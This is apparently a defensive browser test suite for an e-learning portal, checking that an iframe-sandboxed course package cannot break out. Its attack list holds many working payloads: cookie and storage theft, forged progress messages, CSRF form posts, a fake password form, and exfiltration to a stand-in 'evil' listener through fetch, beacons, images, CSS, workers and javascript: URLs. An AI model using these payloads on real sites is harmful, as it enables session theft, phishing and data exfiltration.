// What a hostile package tries, one attack each. The code runs in the package's page; it knows the portal's address, a listener outside
// (`evil`), a course that the learner has not begun (`victim`), and the launch of another lesson of theirs (`other`).
import { expect } from "../portal";
import type { Siege, Watch } from "./siege";

/** What the watch sees of an attack on a page that nothing protects: proof that the code does what it says. */
export type Trace = "hits" | "dialogs" | "popups" | "downloads" | "moved";

export interface Attack {
  name: string;
  /** The body of an async function. What it gets hold of it puts into `loot`. */
  code: string;
  /** What a script of the package does in the wrapper’s window, which shares its origin: `within()` brings it there. */
  inside?: string;
  free?: Trace;
  /** What must hold besides what must hold after every attack. */
  check?(watch: Watch, siege: Siege): Promise<void>;
}

/** Runs each of these and goes on whatever happens. */
const each = (...attempts: string[]): string => attempts.map((attempt) => `await attempt(async () => { ${attempt} });`).join("\n");

/** Forged messages of all kinds, for the launch of another lesson and for none. */
const FORGED = `
  const done = { "cmi.core.lesson_status": "passed", "cmi.core.score.raw": "100" };
  const launches = [other, "", null, 1, "019a0000-0000-7000-8000-00000000dead"];
  for (const launch of launches) {
    for (const text of [
      { says: "commit", launch, sequence: 1000, values: done, finished: true },
      { says: "commit", launch, sequence: -1, values: done, finished: true },
      { says: "go", launch, to: "exit" },
      { says: "go", launch, to: "https://example.com" },
      { says: "failed", launch },
    ]) {
      target.postMessage(JSON.stringify(text), "*");
      target.postMessage(text, "*");
    }
  }`;

export const ATTACKS: Attack[] = [
  {
    name: "reads the portal’s cookies",
    code: each("loot.push(document.cookie);", "loot.push(top.document.cookie);", "loot.push(parent.parent.document.cookie);", "gather(await cookieStore.getAll());"),
  },
  {
    name: "reads what the portal keeps in the browser",
    code: each(
      "gather({ ...localStorage }); gather({ ...sessionStorage });",
      "gather({ ...top.localStorage });",
      "gather({ ...top.sessionStorage });",
      "gather(await indexedDB.databases());",
      "gather(await caches.keys());",
      "gather(await top.indexedDB.databases());",
      "await document.requestStorageAccess(); gather({ ...localStorage });",
    ),
  },
  {
    name: "reads the portal’s page",
    code: each(
      "loot.push(top.document.documentElement.outerHTML);",
      "loot.push(parent.parent.document.body.innerText);",
      "loot.push(parent.frameElement.ownerDocument.body.innerHTML);",
      "loot.push(String(top.location.href));",
      "for (let i = 0; i < top.length; i += 1) loot.push(top[i].document.body.innerHTML && '');",
      "loot.push(document.referrer);",
    ),
  },
  {
    name: "asks the portal’s API with fetch",
    code: each(
      "loot.push(await (await fetch(portal + '/api/v1/session', { credentials: 'include' })).text());",
      "loot.push(await (await fetch(portal + '/api/v1/session', { credentials: 'include', mode: 'no-cors' })).text());",
      "await fetch(portal + '/api/v1/training/catalogue/courses/' + victim + '/enroll', { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' });",
      "await fetch(portal + '/api/v1/session', { method: 'DELETE', credentials: 'include' });",
    ),
    check: effectless,
  },
  {
    name: "asks the portal’s API with XMLHttpRequest",
    code: each(
      ...["GET", "POST", "DELETE"].map(
        (method) =>
          `const ask = new XMLHttpRequest(); ask.open("${method}", portal + ${method === "POST" ? `"/api/v1/training/catalogue/courses/" + victim + "/enroll"` : `"/api/v1/session"`}, ${method !== "GET"}); ask.withCredentials = ${method !== "GET"}; ask.send("{}"); await pause(100); loot.push(ask.responseText);`,
      ),
    ),
    check: effectless,
  },
  {
    name: "posts a form to the portal’s API",
    code: each(
      ...["_self", "hidden", "_parent", "_top"].map(
        (target) => `
        document.body.insertAdjacentHTML("beforeend", '<iframe name="hidden" hidden></iframe><form method="post" enctype="text/plain" target="${target}"><input name="{" value="}"></form>');
        document.forms[document.forms.length - 1].action = portal + "/api/v1/training/catalogue/courses/" + victim + "/enroll";
        document.forms[document.forms.length - 1].submit(); await pause(50);`,
      ),
    ),
    check: effectless,
  },
  {
    name: "moves the window on top by script",
    code: each("top.location = evil;", "top.location.href = evil;", "top.location.replace(evil);", "parent.parent.location.assign(evil);", "open(evil, '_top');"),
    free: "moved",
  },
  {
    name: "moves the window on top by a link and a form",
    code: each(
      ...["_top", "_parent"].map((target) => `
        document.body.insertAdjacentHTML("beforeend", '<a target="${target}">Go on</a><form target="${target}"></form>');
        const link = [...document.links, ...document.querySelectorAll("a")].pop(); link.href = evil; link.click(); await pause(50);
        const form = document.forms[document.forms.length - 1]; form.action = evil; form.submit(); await pause(50);`),
    ),
    free: "moved",
  },
  {
    name: "opens other windows",
    code: each(
      "open(evil);",
      "open(evil, 'x', 'width=200,height=200,opener');",
      "open('javascript:opener.top.location=\"' + evil + '\"');",
      "const link = document.createElement('a'); link.href = evil; link.target = '_blank'; link.rel = 'opener'; document.body.append(link); link.click();",
    ),
    free: "popups",
  },
  {
    name: "puts dialogs over the portal",
    code: each("alert('Your session is over');", "if (confirm('Sign in again?')) loot.push('confirmed');", "loot.push(prompt('Your password') || '');", "print();"),
    free: "dialogs",
  },
  {
    name: "holds whoever wants to leave",
    code: each(
      "addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay'; });",
      "onbeforeunload = () => 'Stay';",
      "parent.onbeforeunload = () => 'Stay'; parent.addEventListener('beforeunload', (event) => { event.preventDefault(); event.returnValue = 'Stay'; });",
      "addEventListener('pagehide', () => { alert('Stay'); open(evil); navigator.sendBeacon(evil, 'bye'); });",
    ),
    async check({ page }) {
      // The learner has touched it, so that browsers would listen.
      await page.frameLocator("iframe.package").frameLocator("iframe").locator("body").click();
      await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Home", exact: true }).click();
      await expect(page).toHaveURL(/\/$/);
      await page.goBack();
      await page.reload();
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    },
  },
  {
    name: "forges messages to the portal’s page",
    code: each(
      `const target = top; ${FORGED}`,
      `for (const text of ["", "null", "{", "[]", "x".repeat(6_000_000), "{\\"says\\":\\"ready\\"}", 7, null, { says: "ready" }, new ArrayBuffer(8)]) top.postMessage(text, "*");`,
      `const lone = new MessageChannel(); top.postMessage(JSON.stringify({ says: "ready", launch: other }), "*", [lone.port2]);`,
    ),
    check: otherLessonUntouched,
  },
  {
    name: "forges messages from within the wrapper’s window",
    code: "await within();",
    inside: `const target = parent; ${FORGED}`,
    async check(watch, siege) {
      expect(watch.within).toBe(true);
      await otherLessonUntouched(watch, siege);
    },
  },
  {
    name: "takes the wrapper over and breaks out from there",
    code: "await within();",
    inside: each(
      "loot.push(await (await fetch(evil + 'fetched')).text());",
      "await fetch(evil + 'fetched', { mode: 'no-cors' });",
      "const image = new Image(); image.src = evil + 'image';",
      "navigator.sendBeacon(evil + 'beacon', 'x');",
      "loot.push(parent.document.body.innerHTML);",
      "alert('From the wrapper');",
      "open(evil);",
      "top.location = evil;",
      "eval('loot.push(\"confirmed\")');",
      "const free = document.createElement('iframe'); free.src = evil + 'framed'; document.body.append(free);",
      "const script = document.createElement('script'); script.src = evil + 'script.js'; document.body.append(script);",
      "document.forms.length; document.body.insertAdjacentHTML('beforeend', `<form action=\"${evil}form\" method=\"post\"></form>`); document.forms[0].submit();",
    ),
    async check(watch) {
      expect(watch.within).toBe(true);
    },
  },
  {
    name: "carries things out by going elsewhere itself",
    code: each("parent.location = evil + 'wrapper?' + encodeURIComponent(run.get('name')); await pause(200);", "location.href = evil + 'self?' + encodeURIComponent(run.get('name')); await pause(200);"),
    free: "hits",
  },
  {
    name: "asks for the password in a form that looks like the portal’s",
    code: each(`
      document.body.innerHTML = '<h1>Sign in</h1><form><label>E-mail address <input name="email" type="email" autocomplete="username" value="user@brueckner.example"></label><label>Password <input name="password" type="password" autocomplete="current-password" value="Hexholm-Demo-2026"></label><button>Sign in</button></form>';
      const form = document.forms[0]; form.action = evil;
      for (const method of ["get", "post"]) { form.method = method; form.requestSubmit(); await pause(50); form.submit(); await pause(50); }
      form.innerHTML += '<button formaction="' + evil + 'button">Go</button>'; form.querySelector("[formaction]").click(); await pause(50);`),
    free: "hits",
  },
  {
    name: "waits for somebody to type the password into its form",
    code: each(`
      document.body.innerHTML = '<h1>Sign in</h1><form><label>Password <input name="password" type="password" value="Hexholm-Demo-2026"></label><button>Sign in</button></form>';
      document.forms[0].action = evil;`),
    async check({ page }) {
      // Somebody falls for it.
      const frame = page.frameLocator("iframe.package").frameLocator("iframe");
      await frame.getByRole("button", { name: "Sign in" }).click();
      // Nothing is to be seen of it: the time that a request would need.
      await new Promise((done) => setTimeout(done, 200));
    },
  },
  {
    name: "asks the network around the browser",
    code: each(
      "await fetch(evil + 'plain');",
      "await fetch(evil + 'no-cors', { mode: 'no-cors' });",
      "await fetch(evil.replace('127.0.0.1', 'localhost') + 'name');",
      "await fetch(evil.replace('127.0.0.1', '[::1]') + 'six');",
      "const frame = document.createElement('iframe'); frame.src = evil + 'frame'; document.body.append(frame);",
      "const script = document.createElement('script'); script.src = evil + 'script.js'; document.body.append(script);",
      "await import(evil + 'module.js');",
    ),
    free: "hits",
  },
  { name: "opens a WebSocket", code: each("const socket = new WebSocket(evil.replace('http', 'ws')); socket.onopen = () => socket.send('x'); await pause(200);"), free: "hits" },
  { name: "listens with EventSource", code: each("new EventSource(evil + 'events', { withCredentials: true }); await pause(200);"), free: "hits" },
  {
    name: "calls home with pictures, films and beacons",
    code: each(
      "const image = new Image(); image.src = evil + 'image?' + encodeURIComponent(run.get('name'));",
      "navigator.sendBeacon(evil + 'beacon', 'x');",
      "await fetch(evil + 'alive', { keepalive: true, method: 'POST', mode: 'no-cors', body: 'x' });",
      "document.body.insertAdjacentHTML('beforeend', `<video src=\"${evil}film\" autoplay></video><audio src=\"${evil}sound\" autoplay></audio><object data=\"${evil}object\"></object><embed src=\"${evil}embed\"><picture><source srcset=\"${evil}set\"><img src=\"${evil}img\"></picture><svg><image href=\"${evil}svg\"/></svg>`);",
      "document.body.insertAdjacentHTML('beforeend', `<a href=\"#\" ping=\"${evil}ping\">x</a>`); document.querySelector('[ping]').click();",
    ),
    free: "hits",
  },
  {
    name: "calls home with style sheets and fonts",
    code: each(
      "const style = document.createElement('style'); style.textContent = `@import url(${evil}import.css); @font-face { font-family: x; src: url(${evil}font.woff2); } body { background: url(${evil}background); font-family: x; cursor: url(${evil}cursor), auto; }`; document.head.append(style);",
      "document.head.insertAdjacentHTML('beforeend', `<link rel=\"stylesheet\" href=\"${evil}sheet.css\">`);",
      "await new FontFace('y', `url(${evil}face.woff2)`).load();",
      "await pause(200);",
    ),
    free: "hits",
  },
  {
    name: "calls home with hints to load ahead",
    code: each(
      "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) document.head.insertAdjacentHTML('beforeend', `<link rel=\"${rel}\" as=\"script\" href=\"${evil}${rel}\">`);",
      "const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [evil + 'speculation'] }], prerender: [{ source: 'list', urls: [evil + 'prerender'] }] }); document.head.append(rules);",
      "await pause(200);",
    ),
    free: "hits",
  },
  {
    name: "stays behind as a service worker",
    code: each(
      ...["new URL('worker.js', location.href)", "'/worker.js'", "'/wrapper.js'", "URL.createObjectURL(new Blob(['1']))"].map(
        (address) => `loot.push('registered ' + (await navigator.serviceWorker.register(${address}, { scope: './' })).scope);`,
      ),
    ),
    async check({ page, loot }) {
      expect(loot.filter((got) => got.startsWith("registered"))).toEqual([]);
      expect(page.context().serviceWorkers().map((worker) => worker.url())).toEqual([]);
    },
  },
  {
    name: "lets files be downloaded",
    code: each(
      "const link = document.createElement('a'); link.download = 'update.exe'; link.href = URL.createObjectURL(new Blob(['MZ'])); document.body.append(link); link.click();",
      "const own = document.createElement('a'); own.download = 'update.exe'; own.href = 'worker.js'; document.body.append(own); own.click();",
      "const data = document.createElement('a'); data.download = 'update.exe'; data.href = 'data:application/octet-stream;base64,TVo='; document.body.append(data); data.click();",
      "await pause(200);",
    ),
    free: "downloads",
  },
  {
    name: "fills the screen, locks the pointer and reads the clipboard",
    code: each(
      "await document.documentElement.requestFullscreen(); loot.push('got the screen');",
      "await document.body.requestPointerLock(); loot.push('got the pointer');",
      "loot.push('got ' + (await navigator.clipboard.readText()));",
      "await navigator.clipboard.writeText('evil'); loot.push('got the clipboard');",
      "await navigator.keyboard.lock(); loot.push('got the keyboard');",
      "await navigator.wakeLock.request('screen'); loot.push('got the lock');",
    ),
    async check({ page, loot }) {
      expect(loot.filter((got) => got.startsWith("got"))).toEqual([]);
      expect(await page.evaluate(() => document.fullscreenElement?.tagName ?? document.pointerLockElement?.tagName)).toBeUndefined();
    },
  },
  {
    name: "asks for place, camera, microphone and notifications",
    code: each(
      "await new Promise((got, not) => navigator.geolocation.getCurrentPosition(got, not)); loot.push('got the place');",
      "await navigator.mediaDevices.getUserMedia({ audio: true, video: true }); loot.push('got the camera');",
      "await navigator.mediaDevices.getDisplayMedia(); loot.push('got the screen');",
      "if ((await Notification.requestPermission()) === 'granted') loot.push('got notifications');",
      "await navigator.requestMIDIAccess(); loot.push('got instruments');",
      "await navigator.usb.getDevices(); loot.push('got devices');",
    ),
    async check({ loot }) {
      expect(loot.filter((got) => got.startsWith("got"))).toEqual([]);
    },
  },
  {
    name: "frames the portal",
    code: each(
      "for (const path of ['/', '/account', '/api/v1/session']) { const frame = document.createElement('iframe'); frame.src = portal + path; frame.style.opacity = '0'; document.body.append(frame); frame.onload = () => attempt(async () => loot.push(frame.contentDocument.body.innerText)); } await pause(300);",
      "const frame = document.createElement('iframe'); frame.sandbox = 'allow-top-navigation allow-popups allow-modals allow-scripts allow-same-origin'; frame.srcdoc = `<script>top.location = '${evil}'; alert(1); open('${evil}')</` + 'script>'; document.body.append(frame); await pause(200);",
    ),
    async check({ page, siege }) {
      const framed = page.frames().filter((frame) => frame !== page.mainFrame() && frame.url().startsWith(siege.portal.url));
      expect(framed.map((frame) => frame.url())).toEqual([]);
    },
  },
  {
    name: "works from workers",
    code: each(
      ...["Worker", "SharedWorker"].map((kind) => `
        const tricks = \`
          const evil = "\${evil}", portal = "\${portal}";
          fetch(evil + "worker").catch(() => 0);
          fetch(portal + "/api/v1/session", { credentials: "include", mode: "no-cors" }).catch(() => 0);
          try { importScripts(evil + "imported.js"); } catch {}
          try { new WebSocket(evil.replace("http", "ws")); } catch {}
          try { new EventSource(evil); } catch {}
        \`;
        new ${kind}(URL.createObjectURL(new Blob([tricks], { type: "text/javascript" })), {});
        await pause(300);`),
      "new Worker(evil + 'worker.js');",
    ),
    free: "hits",
  },
  {
    name: "lets the page refresh itself to elsewhere",
    code: each("document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=\"refresh\" content=\"0; url=${evil}refresh\">`); await pause(300);"),
    free: "hits",
  },
  {
    name: "hides scripts in addresses",
    code: each(
      "const link = document.createElement('a'); link.href = `javascript:top.location='${evil}'`; document.body.append(link); link.click(); await pause(50);",
      "const up = document.createElement('a'); up.href = `javascript:location='${evil}'`; up.target = '_top'; document.body.append(up); up.click(); await pause(50);",
      "const frame = document.createElement('iframe'); frame.src = `javascript:top.location='${evil}';fetch('${evil}').catch(()=>0)`; document.body.append(frame); await pause(50);",
      "const data = document.createElement('iframe'); data.src = `data:text/html,<script>fetch('${evil}',{mode:'no-cors'}).catch(()=>0);top.location='${evil}';new Image().src='${evil}'</` + 'script>'; document.body.append(data); await pause(200);",
      "top.location = `javascript:fetch('${evil}')`;",
    ),
    free: "hits",
  },
  {
    name: "writes over the window’s name and its history",
    code: each(
      "window.name = 'evil'; parent.name = 'evil'; top.name = 'evil';",
      "for (let i = 0; i < 60; i += 1) history.pushState({}, '', '#' + i);",
      "for (let i = 0; i < 60; i += 1) parent.history.pushState({}, '', '#' + i);",
      "history.go(-200); top.history.back(); await pause(200);",
      "top.document.title = 'Sign in';",
    ),
    async check({ page }) {
      expect(await page.evaluate(() => window.name)).toBe("");
    },
  },
  {
    name: "speaks to the network by WebRTC",
    code: each(
      "const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }); call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); await pause(400);",
    ),
    free: "hits",
  },
];

/** Nothing was done in the learner's name, and they are signed in as before. */
async function effectless(watch: Watch, siege: Siege): Promise<void> {
  expect(await siege.victimIsUntouched()).toBe(true);
  expect((await watch.page.request.get(`${siege.portal.url}/api/v1/session`)).status()).toBe(200);
}

async function otherLessonUntouched(watch: Watch, siege: Siege): Promise<void> {
  expect((await siege.other.progress()).completed_at).toBeUndefined();
  expect((await siege.other.progress()).score).toBeUndefined();
  const kept = await watch.page.evaluate(() => Object.entries(localStorage).filter(([name]) => name.startsWith("outbox ")));
  expect(JSON.stringify(kept)).not.toContain(siege.otherLaunch);
}
